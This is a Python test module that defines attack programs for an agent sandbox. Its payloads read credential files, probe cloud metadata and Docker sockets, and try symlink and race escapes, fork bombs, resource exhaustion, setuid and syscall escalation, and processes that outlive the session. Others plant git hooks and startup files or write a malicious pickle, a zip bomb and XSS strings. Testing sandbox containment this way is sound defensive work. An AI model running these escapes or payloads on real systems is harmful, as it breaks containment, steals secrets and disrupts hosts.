"""The attacks as programs for a sandbox that runs any program."""

from __future__ import annotations

from typing import Any

_HELP = """
import contextlib, ctypes, errno, os, pathlib, signal, socket, subprocess, sys, threading, time
libc = ctypes.CDLL(None, use_errno=True)
libc.prctl(15, b"e-@TOKEN@", 0, 0, 0)  # the mark by which what stays behind is found
def tries(what, do):
    try: got = do()
    except (OSError, ValueError, KeyError, EOFError, subprocess.SubprocessError) as error:
        return print("no:", what, type(error).__name__, getattr(error, "errno", ""))
    print("GOT", what, str(got)[:100])
def connect(family, address, kind=socket.SOCK_STREAM):
    with socket.socket(family, kind) as s:
        s.settimeout(1)
        if kind == socket.SOCK_DGRAM: return s.sendto(b"out", address)
        s.connect(address)
        return "connected"
"""


def _python(*programs: str) -> list[tuple[str, dict[str, Any]]]:
    return [("python", {"code": _HELP + program}) for program in programs]


_FILES = """
for path in ("/etc/shadow", "/etc/hostname", "/etc/machine-id", "/etc/resolv.conf", "/etc/ssh",
             "/root/.bashrc", "/home", "/var/log", "/sys/kernel", "/boot", "/proc/kcore",
             "/proc/kmsg", "/proc/kpagecount", "/proc/1/root@BASE@", "@BASE@/home/.ssh/id",
             "@WORK@"):
    def look():
        if os.path.isdir(path): return os.listdir(path)
        with open(path, "rb") as file:
            found = file.read(9)
        if not found: raise OSError("empty")
        return found
    tries(path, look)
if "root" in open("/etc/passwd").read(): print("GOT the users")
"""
_ENVIRONMENT = """
for pid in ["self", *filter(str.isdigit, os.listdir("/proc"))]:
    for name in ("environ", "cmdline"):
        try: text = open(f"/proc/{pid}/{name}").read()
        except OSError as error: print("no:", pid, name, error.errno); continue
        if "@CANARY@" in text or "ro-" + "bind" in text: print("GOT", pid, name)
if any("@CANARY@" in value for value in os.environ.values()): print("GOT a variable")
# What it was started with: a kernel sets some more for itself.
names = sorted(each.partition("=")[0] for each in open("/proc/self/environ").read().split(chr(0)))
if len(names) > 18: print("GOT the environment", names)
"""
_SECRETS = """
for path in ("@BASE@/secrets.toml", "@BASE@/data/dure.db", "/proc/1/root@BASE@/secrets.toml",
             "/proc/self/cwd/../secrets.toml", "/workspace/../secrets.toml", ".dure/secrets.toml"):
    tries(path, lambda: open(path, "rb").read(9))
for found in pathlib.Path("/").glob("*/*.db"): print("GOT", found)
"""
_OUTSIDE = """
for path in ("/x", "/usr/x", "/etc/x", "/bin/x", "/dev/x", "/proc/x", "/run/x", "/var/x", "/lib/x",
             "/workspace/../x", sys.prefix + "/x", "@BASE@/outside/file", "@BASE@/made",
             "/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/self/uid_map",
             os.__file__, ".dure/config.toml", "/etc/passwd"):
    tries(path, lambda: open(path, "a").write("x"))
"""
_LINKS = """
for target in ("@BASE@/secrets.toml", "/etc/shadow", "/proc/1/root@BASE@/secrets.toml"):
    with contextlib.suppress(FileExistsError): os.symlink(target, "link")
    tries("through a link: " + target, lambda: open("link").read(9))
    os.replace("link", "leads-out")
os.symlink("@BASE@/outside", "folder")
"""
_HARD_LINKS = """
for source in ("@BASE@/secrets.toml", "/usr/bin/env", "/etc/passwd"):
    tries("hard link to " + source, lambda: os.link(source, "hard"))
tries("hard link by handle", lambda: os.link("/proc/self/fd/0", "hard", follow_symlinks=True))
"""
_RACER = """  # beside the calls that follow
os.makedirs("race", exist_ok=True); os.symlink("@BASE@/outside", "away")
until = time.monotonic() + 1.5
while time.monotonic() < until:
    for one, other in (("race", "kept"), ("away", "race"), ("race", "away"), ("kept", "race")):
        with contextlib.suppress(OSError): os.rename(one, other)
"""
_PATHS = r"""
for path in ("/workspace/../../@BASE@/secrets.toml", "../" * 40 + "@BASE@/secrets.toml",
             "/workspace/\u2024\u2024/secrets.toml", "\uff0e\uff0e/secrets.toml", "a/" * 3000,
             "x" * 5000, "@BASE@/secrets.toml\0.txt", "//proc/self/root/@BASE@/secrets.toml"):
    tries(ascii(path[:40]), lambda: open(path).read(9))
"""
_TCP = """
for host, port in (("127.0.0.1", @TCP@), ("0.0.0.0", @TCP@), ("127.1", @TCP@), ("localhost", @TCP@),
                   ("10.0.0.1", 22), ("192.168.0.1", 80), ("8.8.8.8", 53)):
    tries(f"{host}:{port}", lambda: socket.create_connection((host, port), 1))
tries("IPv6", lambda: connect(socket.AF_INET6, ("::1", @TCP6@)))
tries("IPv4 as IPv6", lambda: connect(socket.AF_INET6, ("::ffff:127.0.0.1", @TCP@)))
tries("UDP", lambda: time.sleep(0.1) or connect(socket.AF_INET, ("127.0.0.1", @UDP@)))
for family in (17, 38, 40, 31, 44): tries(f"family {family}", lambda: socket.socket(family, 2))
tries("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
for line in open("/proc/net/dev").readlines()[2:]:
    if not line.strip().startswith("lo:"): print("GOT", line)
"""
_METADATA = """
for host in ("169.254.169.254", "2852039166", "0xA9FEA9FE", "0251.0376.0251.0376", "169.254.43518",
             "metadata.google.internal", "169.254.169.254.nip.io"):
    tries(host, lambda: socket.create_connection((host, 80), 1))
for host in ("::ffff:169.254.169.254", "fd00:ec2::254", "64:ff9b::a9fe:a9fe"):
    tries(host, lambda: connect(socket.AF_INET6, (host, 80)))
"""
_DNS = """
for name in ("canary.example.org", "example.org", "localhost.example.org"):
    tries(name, lambda: socket.getaddrinfo(name, 80))
for server in ("8.8.8.8", "1.1.1.1", "10.0.2.3"):
    tries(server, lambda: connect(socket.AF_INET, (server, 53), socket.SOCK_DGRAM))
tries("a program that asks", lambda: subprocess.check_output(["getent", "hosts", "example.org"]))
"""
_UNIX = """
tries("abstract", lambda: connect(socket.AF_UNIX, "\\0dure-escape-@TOKEN@"))
for path in ("@BASE@/engine.sock", "/run/docker.sock", "/var/run/docker.sock",
             "/run/podman/podman.sock",
             "/run/dbus/system_bus_socket", "/tmp/ssh-agent", "/run/systemd/private",
             "/tmp/.X11-unix/X0", "/run/user/0/bus"):
    tries(path, lambda: connect(socket.AF_UNIX, path))
"""
_FORKS = """
while True:
    try: os.fork()
    except OSError: pass
"""
_MEMORY = """
kept = []
while True: kept.append(bytearray(b"x") * (16 << 20))
"""
_MEMORY_OF_MANY = """
for _ in range(5): os.fork()
kept = bytearray(b"x") * (60 << 20)
time.sleep(30)
"""
_MEMORY_OF_THE_KERNEL = """
import mmap
for _ in range(2): os.fork()
tables = mmap.mmap(-1, 1 << 41, prot=mmap.PROT_READ, flags=0x4022)
tables.madvise(15)
for n in range(1 << 20): tables[n << 21]
time.sleep(30)
"""
_DISK = """
n = 0
while True:
    with open(f"full{n}", "wb") as file: file.write(os.urandom(8 << 20))
    n += 1
"""
_DISK_NAMELESS = """
kept = []
while True:
    kept.append(open("gone", "wb", 0)); os.unlink("gone")
    for _ in range(4): kept[-1].write(os.urandom(8 << 20))
"""
_DISK_DEEP = """
for _ in range(30): os.mkdir("d" * 200); os.chdir("d" * 200)
for n in range(200): open(str(n), "wb").write(os.urandom(8 << 20))
"""
_INODES = """
os.mkdir("many")
n = 0
while True: open(f"many/{n}", "w").close(); n += 1
"""
_SPARSE = """
with open("sparse", "wb", buffering=0) as file:
    tries("a terabyte", lambda: file.truncate(1 << 40))
    tries("a terabyte", lambda: (file.seek(1 << 40), file.write(b"x")))
for path in ("/tmp/x", "/dev/shm/x"):
    tries(path, lambda: [open(path, "ab").write(bytes(64 << 20)) for _ in range(64)])
"""
_OUTLIVES = """
for number in range(1, 32):
    with contextlib.suppress(OSError): signal.signal(number, signal.SIG_IGN)
subprocess.Popen(["setsid", "sleep", "33.@TOKEN@"])
subprocess.Popen(["nohup", "sleep", "33.@TOKEN@"], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0: time.sleep(60)
    os._exit(0)
print("started", flush=True)
"""
_OTHERS = """
for pid in (@VICTIM@, @PID@):
    tries(f"kill {pid}", lambda: os.kill(pid, 9))
    tries(f"look at {pid}", lambda: os.stat(f"/proc/{pid}/exe"))
def memory():
    if not open("/proc/1/mem", "rb").read(1): raise OSError("nothing")
tries("memory of the first process", memory)
if "@VICTIM@" in os.listdir("/proc"): print("GOT a look at others")
for number in (16, 16902):
    if libc.ptrace(number, 1, 0, 0) == 0: print("GOT ptrace")
    print("no: ptrace", ctypes.get_errno())
tries("a signal by handle", lambda: os.pidfd_open(@VICTIM@))
"""
_CALLS = """
from ctypes import c_long
machine = os.uname().machine
numbers = {"x86_64": 0, "aarch64": 1}
calls = {"ptrace": (101, 117), "mount": (165, 40), "umount2": (166, 39), "pivot_root": (155, 41),
    "chroot": (161, 51), "unshare": (272, 97), "setns": (308, 268), "open_tree": (428, 428),
    "move_mount": (429, 429), "fsopen": (430, 430), "mount_setattr": (442, 442),
    "open_by_handle_at": (304, 265), "add_key": (248, 217), "request_key": (249, 218),
    "keyctl": (250, 219), "bpf": (321, 280), "userfaultfd": (323, 282), "perf_event": (298, 241),
    "io_uring_setup": (425, 425), "kexec_load": (246, 104), "init_module": (175, 105),
    "finit_module": (313, 273), "reboot": (169, 142), "swapon": (167, 224), "syslog": (103, 116),
    "settimeofday": (164, 170), "process_vm_readv": (310, 270), "sethostname": (170, 161),
    "clone3": (435, 435), "memfd_secret": (447, 447), "the newest of all": (600, 600)}
for name, pair in calls.items():
    ctypes.set_errno(0)
    if libc.syscall(c_long(pair[numbers[machine]]), 0, 0, 0, 0, 0, 0) != -1: print("GOT", name)
    elif ctypes.get_errno() in (1, 38): print("no:", name, ctypes.get_errno())
    else: print("GOT into the kernel with", name, ctypes.get_errno())
clone = {"x86_64": 56, "aarch64": 220}[machine]
for flag in (0x20000, 0x2000000, 0x4000000, 0x8000000, 0x10000000, 0x20000000, 0x40000000):
    child = libc.syscall(c_long(clone), flag | 17, 0, 0, 0, 0)
    if child == 0: os._exit(0)
    print("GOT a namespace" if child > 0 else "no: a namespace", hex(flag))
import fcntl
tries("typing into the terminal", lambda: fcntl.ioctl(0, 0x5412, b"x"))
tries("a new user", lambda: open("/proc/self/uid_map", "w").write("0 0 1"))
"""
_RIGHTS = """
def became(*command):
    ran = subprocess.run(command, capture_output=True, timeout=9, stdin=subprocess.DEVNULL)
    if ran.stdout.strip() != b"0": raise OSError(ran.returncode, "not root")
    return ran.stdout
tries("the setuid file of root's", lambda: became("./given", "-u"))
for program in ("su", "sudo", "pkexec", "newgrp", "mount"):
    tries(program, lambda: became(program, "-c", "id -u"))
tries("unshare", lambda: became("unshare", "-r", "id", "-u"))
open("tool", "w").write("#!/bin/sh")
for mode in (0o4755, 0o2755):
    tries("setuid", lambda: os.chmod("tool", mode))
    tries("setuid when made", lambda: os.open("new", os.O_CREAT | os.O_WRONLY, mode))
    tries("setuid folder", lambda: os.mkdir("d", mode))
tries("a device", lambda: os.mknod("disk", 0o060644, os.makedev(254, 0)))
for what in (lambda: os.setuid(0), lambda: os.setresuid(0, 0, 0), lambda: os.setgroups([0]),
             lambda: os.chown("tool", 0, 0), lambda: os.setgid(0)):
    tries("to be root", what)
tries("a capability", lambda: os.setxattr("tool", "security.capability", bytes(20)))
"""
_HANDLES = """
import fcntl
def inherited(number):
    # What this process opened for itself is not handed on to programs that it starts.
    return not fcntl.fcntl(number, fcntl.F_GETFD) & fcntl.FD_CLOEXEC
for name in os.listdir("/proc/self/fd"):
    with contextlib.suppress(OSError):
        if not inherited(int(name)): continue
        found = os.readlink(f"/proc/self/fd/{name}")
        if int(name) > 2 and not found.startswith("/proc/"): print("GOT", name, found)
        if "secrets" in found: print("GOT", found)
for number in range(3, 300):
    with contextlib.suppress(OSError):
        if inherited(number): print("GOT", number, os.pread(number, 9, 0))
if any(os.isatty(n) for n in range(3)): print("GOT a terminal")
tries("the terminal", lambda: open("/dev/tty"))
"""
_PLANTS = r"""
evil = "#!/bin/sh\ntouch @BASE@/ran\n"
settings = "[core]\n\tfsmonitor = touch @BASE@/ran;:\n\thooksPath = hooks\n"
def plant(path, text, mode=0o755):
    pathlib.Path(path).parent.mkdir(parents=True, exist_ok=True)
    pathlib.Path(path).write_text(text); os.chmod(path, mode); print("planted", path)
os.chmod("given", 0o755)
for where in (".", "sub", "sub/deeper"):
    subprocess.run(["git", "init", "-q", where], stdin=subprocess.DEVNULL)
    for name in ("post-checkout", "pre-commit", "fsmonitor-watchman", "post-index-change"):
        plant(f"{where}/.git/hooks/{name}", evil)
    plant(f"{where}/.git/config", settings)
    plant(f"{where}/.envrc", evil); plant(f"{where}/.vscode/tasks.json", "{}")
    plant(f"{where}/.dure/config.toml", "policy = 'trusted'") if where != "." else None
    plant(f"{where}/sitecustomize.py", "open('@BASE@/ran', 'w')")
    plant(f"{where}/usercustomize.py", "open('@BASE@/ran', 'w')")
    plant(f"{where}/conftest.py", "open('@BASE@/ran', 'w')")
for name in ("HEAD", "config", "objects/x", "refs/x", "hooks/post-checkout"):
    text = {"HEAD": "ref: refs/heads/x\n", "config": settings + "\tworktree = .\n"}
    plant("bare/" + name, text.get(name, evil))
plant("evil/HEAD", "ref: refs/heads/x\n"); plant("evil/objects/x", ""); plant("evil/refs/x", "")
plant("evil/config", settings); plant("pointed/.git", "gitdir: ../evil\n")
import site
for folder in [*site.getsitepackages(), site.getusersitepackages(), sys.prefix]:
    def pth():
        with open(f"{folder}/x.pth", "w") as file: file.write("import os")
        if folder.startswith("/tmp"): raise OSError("gone with the sandbox")
    tries(folder + "/x.pth", pth)
"""
_READER = r"""
import pickle, zipfile, struct, zlib
class Evil:
    def __reduce__(self): return (os.system, ("touch @BASE@/ran",))
open("evil.pkl", "wb").write(pickle.dumps(Evil()))
with zipfile.ZipFile("bomb.zip", "w", zipfile.ZIP_DEFLATED) as file:
    file.writestr("0", bytes(256 << 20))
def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
head = chunk(b"IHDR", struct.pack(">IIBBBBB", 60000, 60000, 8, 2, 0, 0, 0))
body = chunk(b"IDAT", zlib.compress(bytes(9 << 20))) + chunk(b"IEND", b"")
open("giant.png", "wb").write(b"\x89PNG\r\n\x1a\n" + head + body)
svg = "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script></svg>"
open("script.svg", "w").write(svg)
open("\x1b]0;title\x07name\n.txt", "w").write("x")
open(b"\xff\xfe", "w").write("x")
print("\x1b[2J\x1b]0;owned\x07\x1b]52;c;aGk=\x07\x9b31m\u202etxt.exe\u202c")
print("<script>alert(1)</script> <img src=x onerror=alert(1)>")
print("no: nothing of it ran")
"""
_PACKAGES = """
os.makedirs("evil"); open("evil/setup.py", "w").write("open('@BASE@/ran', 'w')")
def pip(*words):
    ran = subprocess.run([sys.executable, "-m", "pip", "--disable-pip-version-check", *words],
                         capture_output=True, timeout=25, stdin=subprocess.DEVNULL, text=True)
    if ran.returncode: raise OSError(ran.returncode, ran.stderr[-100:])
    return ran.stdout
tries("from the index", lambda: pip("install", "--retries", "0", "--timeout", "2", "six"))
tries("for the user", lambda: pip("install", "--retries", "0", "--timeout", "2", "--user", "six"))
tries("a package of its own", lambda: pip("install", "--no-index", "./evil"))
"""
_AWAY = "open('ran', 'w'); print('GOT run')"

_LOOK = [
    ("list_files", {}),
    ("read_file", {"path": "evil.pkl"}),
    ("read_file", {"path": "bomb.zip"}),
]
_LOOK += [("read_file", {"path": path}) for path in ("giant.png", "script.svg")]
_THROUGH_LINKS = [
    (tool, {"path": path, "text": "x"})
    for tool in ("write_file", "append_file")
    for path in ("leads-out", "folder/file", "folder/new")
]

BY_CODE: dict[int, list[tuple[str, dict[str, Any]]]] = {
    1: _python(_FILES),
    2: _python(_ENVIRONMENT),
    3: _python(_SECRETS),
    4: _python(_OUTSIDE),
    5: [*_python(_LINKS), *_THROUGH_LINKS, ("read_file", {"path": "leads-out"})],
    6: _python(_HARD_LINKS),
    7: [*_python(_RACER), ("write_again_and_again", {"path": "race/file"})],
    8: _python(_PATHS),
    9: _python(_TCP),
    10: _python(_METADATA),
    11: _python(_DNS),
    12: _python(_UNIX),
    13: [
        *_python(_FORKS),
        ("shell", {"command": "e_@TOKEN@() { e_@TOKEN@ | e_@TOKEN@ & }; e_@TOKEN@; wait"}),
    ],
    14: _python(_MEMORY, _MEMORY_OF_MANY, _MEMORY_OF_THE_KERNEL),
    15: _python(_DISK, _DISK_NAMELESS, _DISK_DEEP, _SPARSE, _INODES),
    16: [*_python("while True: print('x' * 10_000)"), ("shell", {"command": "yes 1>&2"})],
    17: _python(_OUTLIVES, _OUTLIVES + "time.sleep(60)"),
    18: _python(_OTHERS),
    19: _python(_CALLS),
    20: _python(_RIGHTS),
    21: _python(_HANDLES),
    22: _python(_PLANTS),
    23: [*_python(_READER), *_LOOK],
    24: _python(_PACKAGES),
    25: _python(_AWAY),
}
